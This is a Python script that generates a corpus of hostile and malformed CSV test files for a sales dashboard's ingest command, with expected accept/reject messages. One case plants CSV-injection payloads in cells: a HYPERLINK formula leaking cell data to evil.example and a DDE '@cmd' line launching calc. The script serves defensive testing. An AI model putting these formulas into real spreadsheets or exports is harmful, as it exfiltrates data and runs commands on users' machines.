"""Build the hostile CSV corpus from tests/data/small.csv (reproducible: run it, the files come out identical).

    .venv/bin/python tests/data/bad/make_corpus.py          # (re)write the files and manifest.toml
    .venv/bin/python tests/data/bad/make_corpus.py --check  # exit 1 if a committed file differs

Every case says whether ``salesdash ingest`` must accept the file, and a fragment its message must contain
(the CLI's error line for a rejected file, the ingest report for an accepted one). The manifest is what
tests/ingest/test_hostile_corpus.py reads.
"""

from __future__ import annotations

import codecs
import csv
import gzip
import io
import random
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
SMALL = HERE.parent / "small.csv"
MANIFEST = HERE / "manifest.toml"


def _rows() -> list[list[str]]:
    with SMALL.open(encoding="utf-8", newline="") as fh:
        return [list(r) for r in csv.reader(fh)]


def _csv(rows: list[list[str]], newline: str = "\n") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, lineterminator=newline).writerows(rows)
    return buf.getvalue().encode("utf-8")


def _small_bytes() -> bytes:
    return SMALL.read_bytes()


def _col(name: str) -> int:
    return _rows()[0].index(name)


def _set(line: int, column: str, value: str) -> bytes:
    """small.csv with one cell changed; ``line`` is the file line (header = 1)."""
    rows = _rows()
    rows[line - 1][_col(column)] = value
    return _csv(rows)


def _rename(old: str, new: str) -> bytes:
    rows = _rows()
    rows[0][_col(old)] = new
    return _csv(rows)


def _drop(column: str) -> bytes:
    i = _col(column)
    return _csv([r[:i] + r[i + 1 :] for r in _rows()])


def _append(row: list[str]) -> bytes:
    return _csv([*_rows(), row])


def _duplicate_line() -> bytes:
    rows = _rows()
    return _csv([*rows, rows[1]])


def _truncated_last_line() -> bytes:
    body = _small_bytes()
    return body[: body.rindex(b"Delta Ltda") + len(b"Delta Lt")]  # cut mid-line, 14 fields, no newline


def _unbalanced_quotes() -> bytes:
    text = _small_bytes().decode("utf-8")
    return text.replace('"C/ Moralzarzal, 86"', '"C/ Moralzarzal, 86', 1).encode("utf-8")


def _quote_runs_on() -> bytes:
    text = _small_bytes().decode("utf-8")
    return text.replace('"54, rue Royale"', '"54, rue Royale', 1).encode("utf-8")


def _too_many_fields() -> bytes:
    lines = _small_bytes().decode("utf-8").splitlines()
    lines[4] += ",surplus,cells"
    return ("\n".join(lines) + "\n").encode("utf-8")


def _bare_cr() -> bytes:
    return _small_bytes() + b"\rX\n"  # a lone carriage return: the CSV readers would split the line there


def _wide_header() -> bytes:
    """small.csv's header and first line with 50,000 columns: its own 25 and 49,975 extra (empty) ones."""
    rows = _rows()
    extra = 50_000 - len(rows[0])
    return _csv([rows[0] + [f"X{i}" for i in range(extra)], rows[1] + [""] * extra])


def _binary() -> bytes:
    rnd = random.Random(6)  # test data, not crypto
    return bytes(rnd.randrange(256) for _ in range(4096))


def _zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo("small.csv", date_time=(2004, 1, 1, 0, 0, 0))
        zf.writestr(info, _small_bytes())
    return buf.getvalue()


def _gzip() -> bytes:
    return gzip.compress(_small_bytes(), mtime=0)


def _utf16() -> bytes:
    return _small_bytes().decode("utf-8").encode("utf-16")


def _utf16_no_bom() -> bytes:
    return _small_bytes().decode("utf-8").encode("utf-16-le")


def _huge_field() -> bytes:
    return _set(2, "CUSTOMERNAME", "A" * (1 << 20))


def _nul_in_body() -> bytes:
    rows = _rows()
    pad = [rows[1][:] for _ in range(120)]
    for i, r in enumerate(pad):
        r[_col("ORDERNUMBER")] = str(5000 + i)
    rows += pad
    rows[-1][_col("CITY")] = "Ber\x00lin"
    return _csv(rows)


def _formula_names() -> bytes:
    rows = _rows()
    for r in rows[1:]:
        if r[_col("CUSTOMERNAME")] == "Alpha Co":
            r[_col("CUSTOMERNAME")] = '=HYPERLINK("http://evil.example/x?leak="&A1,"Alpha Co")'
            r[_col("CONTACTFIRSTNAME")] = "+SUM(1+1)"
            r[_col("CONTACTLASTNAME")] = "-2+3"
            r[_col("CITY")] = "@cmd|' /C calc'!A0"
    return _csv(rows)


# Markup in names: Streamlit Markdown (image, link, bold, code span, LaTeX, colour directive), HTML and GitHub
# autolinks. Stored as written; the dashboard shows them as text (tests/e2e/test_markup_browser.py) and no
# viewer's browser fetches the URLs.
MARKUP_COUNTRY = "![c](http://127.0.0.1:8599/country.png)"
MARKUP_CUSTOMER = "**Bold** <b>b</b> <img src=http://127.0.0.1:8599/customer.png> $x^2$"
MARKUP_PRODUCT_LINE = ':red[Red] `Cody` <a href="http://127.0.0.1:8599/a">a</a> www.example.com'


def _markup_names() -> bytes:
    rows = _rows()
    for r in rows[1:]:
        if r[_col("COUNTRY")] == "France":
            r[_col("COUNTRY")] = MARKUP_COUNTRY
        if r[_col("CUSTOMERNAME")] == "Alpha Co":
            r[_col("CUSTOMERNAME")] = MARKUP_CUSTOMER
        if r[_col("PRODUCTLINE")] == "Planes":
            r[_col("PRODUCTLINE")] = MARKUP_PRODUCT_LINE
    return _csv(rows)


def _only_cancelled() -> bytes:
    rows = _rows()
    for r in rows[1:]:
        r[_col("STATUS")] = "Cancelled"
    return _csv(rows)


def _bom() -> bytes:
    return codecs.BOM_UTF8 + _small_bytes()


def _crlf() -> bytes:
    return _small_bytes().replace(b"\n", b"\r\n")


def _extra_columns() -> bytes:
    rows = _rows()
    rows[0] += ["NOTES", "INTERNAL_ID"]
    for i, r in enumerate(rows[1:]):
        r += ["free text, with a comma", str(i)]
    return _csv(rows)


def _reordered() -> bytes:
    rows = _rows()
    order = sorted(range(len(rows[0])), key=lambda i: rows[0][i])
    return _csv([[r[i] for i in order] for r in rows])


def _blank_lines_only() -> bytes:
    return b"\n\n\n\n"


def _duplicate_header() -> bytes:
    rows = _rows()
    rows[0][_col("PHONE")] = "SALES"
    return _csv(rows)


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[], bytes]
    accept: bool
    message: str
    why: str


CASES: tuple[Case, ...] = (
    # -- refused before any row is looked at: the file itself --------------------------------------------
    Case("empty.csv", lambda: b"", False, "is empty", "zero bytes"),
    Case("blank_lines.csv", _blank_lines_only, False, "no header row", "only newlines"),
    Case(
        "header_only.csv",
        lambda: _small_bytes().splitlines(True)[0],
        False,
        "no order lines",
        "header, no rows",
    ),
    Case(
        "missing_column.csv",
        lambda: _drop("SALES"),
        False,
        "missing required column(s): SALES",
        "SALES column absent",
    ),
    Case(
        "renamed_column.csv",
        lambda: _rename("CUSTOMERNAME", "Customer Name"),
        False,
        "rename it to CUSTOMERNAME",
        "CUSTOMERNAME spelled differently",
    ),
    Case(
        "duplicate_header.csv",
        _duplicate_header,
        False,
        "duplicate column names: SALES",
        "two SALES columns",
    ),
    Case(
        "semicolon.csv",
        lambda: _small_bytes().replace(b",", b";"),
        False,
        "delimited by ';'",
        "European CSV with ; as delimiter",
    ),
    Case("binary_garbage.csv", _binary, False, "binary file", "4 KiB of random bytes"),
    Case("utf16.csv", _utf16, False, "UTF-16", "UTF-16 with BOM (Excel 'Unicode text')"),
    Case("utf16_no_bom.csv", _utf16_no_bom, False, "UTF-16", "UTF-16-LE without BOM"),
    Case("gzipped.csv", _gzip, False, "gzip-compressed", "small.csv gzip-compressed, .csv name"),
    Case("workbook.csv", _zip, False, "ZIP archive", "a ZIP container (what an .xlsx is)"),
    Case(
        "nul_in_body.csv",
        _nul_in_body,
        False,
        "NUL byte",
        "a NUL byte deep in the file (after the first 4 KiB)",
    ),
    Case(
        "truncated_last_line.csv",
        _truncated_last_line,
        False,
        "line 9 has 14 field(s), expected 25",
        "the download stopped mid-line",
    ),
    Case(
        "bare_cr.csv",
        _bare_cr,
        False,
        "line 10 holds a carriage return (CR, \\r) that is not part of a line ending",
        "a lone CR after the last line (red-team finding: was a 500 / exit 70)",
    ),
    Case(
        "wide_header.csv",
        _wide_header,
        False,
        "the header has 50,000 columns; at most 1,000 are accepted",
        "50,000 columns (was 33 s of quadratic header checks)",
    ),
    Case(
        "unbalanced_quotes.csv",
        _unbalanced_quotes,
        False,
        "line 9 opens a quoted field that is never closed",
        "the last quoted field is never closed",
    ),
    Case(
        "quote_runs_on.csv",
        _quote_runs_on,
        False,
        "line 4 has 26 field(s), expected 25",
        "an unclosed quote swallows the next lines",
    ),
    Case(
        "too_many_fields.csv",
        _too_many_fields,
        False,
        "line 5 has 27 field(s), expected 25",
        "two surplus cells on one line",
    ),
    # -- refused by the row rules: every message names line and column ------------------------------------
    Case(
        "unparseable_date.csv",
        lambda: _set(3, "ORDERDATE", "2003-01-15"),
        False,
        "line 3, ORDERDATE ('2003-01-15') is not a valid date",
        "ISO date instead of M/D/YYYY H:MM",
    ),
    Case(
        "impossible_date.csv",
        lambda: _set(5, "ORDERDATE", "2/30/2004 0:00"),
        False,
        "line 5, ORDERDATE ('2/30/2004 0:00') is not a valid date",
        "February 30th",
    ),
    Case(
        "date_out_of_range.csv",
        lambda: _set(9, "ORDERDATE", "1/3/1805 0:00"),
        False,
        "line 9, ORDERDATE ('1/3/1805 0:00') is outside the supported range",
        "year 1805",
    ),
    Case(
        "negative_quantity.csv",
        lambda: _set(4, "QUANTITYORDERED", "-20"),
        False,
        "line 4, QUANTITYORDERED ('-20') must be at least 1",
        "negative units",
    ),
    Case(
        "zero_quantity.csv",
        lambda: _set(4, "QUANTITYORDERED", "0"),
        False,
        "line 4, QUANTITYORDERED ('0') must be at least 1",
        "zero units",
    ),
    Case(
        "fractional_quantity.csv",
        lambda: _set(4, "QUANTITYORDERED", "2.5"),
        False,
        "line 4, QUANTITYORDERED ('2.5') must be a whole number",
        "half a unit",
    ),
    Case(
        "huge_quantity.csv",
        lambda: _set(4, "QUANTITYORDERED", "99999999999999999999"),
        False,
        "line 4, QUANTITYORDERED ('99999999999999999999') must be at most",
        "beyond any integer column",
    ),
    Case(
        "non_numeric_sales.csv",
        lambda: _set(3, "SALES", "six hundred"),
        False,
        "line 3, SALES ('six hundred') is not a number",
        "words in a money column",
    ),
    Case(
        "thousands_separator.csv",
        lambda: _set(7, "SALES", "7,500.50"),
        False,
        "line 7, SALES ('7,500.50') is not a number",
        "1,234.50 style amount (quoted)",
    ),
    Case(
        "negative_sales.csv",
        lambda: _set(3, "SALES", "-600.25"),
        False,
        "line 3, SALES ('-600.25') must be at least 0",
        "negative revenue",
    ),
    Case(
        "nan_sales.csv",
        lambda: _set(3, "SALES", "NaN"),
        False,
        "line 3, SALES ('NaN') is not a number",
        "NaN literal",
    ),
    Case(
        "inf_sales.csv",
        lambda: _set(3, "SALES", "inf"),
        False,
        "line 3, SALES ('inf') must be finite",
        "infinity literal",
    ),
    Case(
        "overflow_sales.csv",
        lambda: _set(3, "SALES", "1e400"),
        False,
        "line 3, SALES ('1e400') must be finite",
        "a number beyond float range",
    ),
    Case(
        "huge_sales.csv",
        lambda: _set(3, "SALES", "99999999999999999999"),
        False,
        "line 3, SALES ('99999999999999999999') must be at most",
        "more cents than a 64-bit integer holds",
    ),
    Case(
        "empty_required_cell.csv",
        lambda: _set(6, "PRODUCTCODE", ""),
        False,
        "line 6, PRODUCTCODE is empty",
        "required text cell empty",
    ),
    Case(
        "duplicate_order_line.csv",
        _duplicate_line,
        False,
        "line 10, ORDERNUMBER",
        "line 2 repeated at the end: (1001, 1) twice",
    ),
    Case(
        "two_customers_one_order.csv",
        lambda: _set(3, "CUSTOMERNAME", "Other Co"),
        False,
        "an order must have one CUSTOMERNAME on all of its lines",
        "order 1001 with two customers",
    ),
    Case(
        "two_dates_one_order.csv",
        lambda: _set(7, "ORDERDATE", "2/6/2004 0:00"),
        False,
        "an order must have one ORDERDATE on all of its lines",
        "order 1004 with two dates",
    ),
    Case(
        "unknown_status.csv",
        lambda: _set(2, "STATUS", "Lost"),
        False,
        "line 2, STATUS ('Lost') must be one of: Shipped",
        "status not in the list",
    ),
    Case(
        "unknown_dealsize.csv",
        lambda: _set(8, "DEALSIZE", "Huge"),
        False,
        "line 8, DEALSIZE ('Huge') must be one of: Small, Medium, Large",
        "deal size not in the list",
    ),
    Case(
        "quarter_disagrees.csv",
        lambda: _set(8, "QTR_ID", "3"),
        False,
        "line 8, QTR_ID ('3') disagrees with ORDERDATE (12/31/2004 0:00)",
        "Q3 for a December date",
    ),
    Case(
        "month_disagrees.csv",
        lambda: _set(2, "MONTH_ID", "2"),
        False,
        "line 2, MONTH_ID ('2') disagrees with ORDERDATE",
        "February for a January date",
    ),
    Case(
        "year_disagrees.csv",
        lambda: _set(9, "YEAR_ID", "2004"),
        False,
        "line 9, YEAR_ID ('2004') disagrees with ORDERDATE",
        "2004 for a 2005 date",
    ),
    Case(
        "huge_field.csv",
        _huge_field,
        False,
        "longer than 255 characters",
        "a 1 MiB customer name",
    ),
    # -- accepted --------------------------------------------------------------------------------------------
    Case(
        "formula_names.csv",
        _formula_names,
        True,
        "rows loaded:   8",
        "=HYPERLINK(...), +, -, @ cells: stored as written, neutralised in every export",
    ),
    Case(
        "markup_names.csv",
        _markup_names,
        True,
        "rows loaded:   8",
        "Markdown/HTML/LaTeX in a country, a customer and a product line: stored as written, shown as text",
    ),
    Case(
        "only_cancelled.csv",
        _only_cancelled,
        True,
        "6 cancelled order(s) are excluded from revenue",
        "every order Cancelled: zero revenue, no division by zero",
    ),
    Case("utf8_bom.csv", _bom, True, "encoding:      utf-8-sig", "UTF-8 with a byte-order mark"),
    Case("crlf.csv", _crlf, True, "rows loaded:   8", "Windows line endings"),
    Case(
        "extra_columns.csv",
        _extra_columns,
        True,
        "unknown column 'NOTES' ignored",
        "two unknown columns (ignored, with a warning)",
    ),
    Case("reordered_columns.csv", _reordered, True, "rows loaded:   8", "columns in alphabetical order"),
)


# Row-level cases: how many lines `salesdash ingest --on-error skip` rejects (the rest loads). A file-level
# case (not listed) is refused whole in either mode.
SKIP_REJECTS: dict[str, int] = {
    "unparseable_date.csv": 1,
    "impossible_date.csv": 1,
    "date_out_of_range.csv": 1,
    "negative_quantity.csv": 1,
    "zero_quantity.csv": 1,
    "fractional_quantity.csv": 1,
    "huge_quantity.csv": 1,
    "non_numeric_sales.csv": 1,
    "thousands_separator.csv": 1,
    "negative_sales.csv": 1,
    "nan_sales.csv": 1,
    "inf_sales.csv": 1,
    "overflow_sales.csv": 1,
    "huge_sales.csv": 1,
    "empty_required_cell.csv": 1,
    "duplicate_order_line.csv": 1,
    "two_customers_one_order.csv": 2,  # both lines of order 1001: which customer is right is unknowable
    "two_dates_one_order.csv": 2,
    "unknown_status.csv": 2,
    "unknown_dealsize.csv": 1,
    "quarter_disagrees.csv": 1,
    "month_disagrees.csv": 1,
    "year_disagrees.csv": 1,
    "huge_field.csv": 2,
}


def _toml_str(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def manifest_text() -> str:
    out = [
        "# The hostile CSV corpus: generated by make_corpus.py (do not edit by hand; edit CASES there).",
        "# accept: must `salesdash ingest` load the file?  message: a fragment the output must contain.",
        "# skip_rejected: row-level problem; `--on-error skip` rejects this many lines and loads the rest.",
        "",
    ]
    for case in CASES:
        out += [
            "[[case]]",
            f"file = {_toml_str(case.name)}",
            f"accept = {'true' if case.accept else 'false'}",
            f"message = {_toml_str(case.message)}",
            f"why = {_toml_str(case.why)}",
        ]
        if case.name in SKIP_REJECTS:
            out.append(f"skip_rejected = {SKIP_REJECTS[case.name]}")
        out.append("")
    return "\n".join(out)


def build() -> dict[str, bytes]:
    files = {case.name: case.build() for case in CASES}
    files[MANIFEST.name] = manifest_text().encode("utf-8")
    return files


def main(argv: list[str]) -> int:
    files = build()
    if "--check" in argv:
        stale = [n for n, data in files.items() if not (HERE / n).exists() or (HERE / n).read_bytes() != data]
        for name in stale:
            print(f"stale: {name}", file=sys.stderr)
        return 1 if stale else 0
    for name, data in files.items():
        (HERE / name).write_bytes(data)
    print(f"wrote {len(files) - 1} corpus files and {MANIFEST.name} to {HERE}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
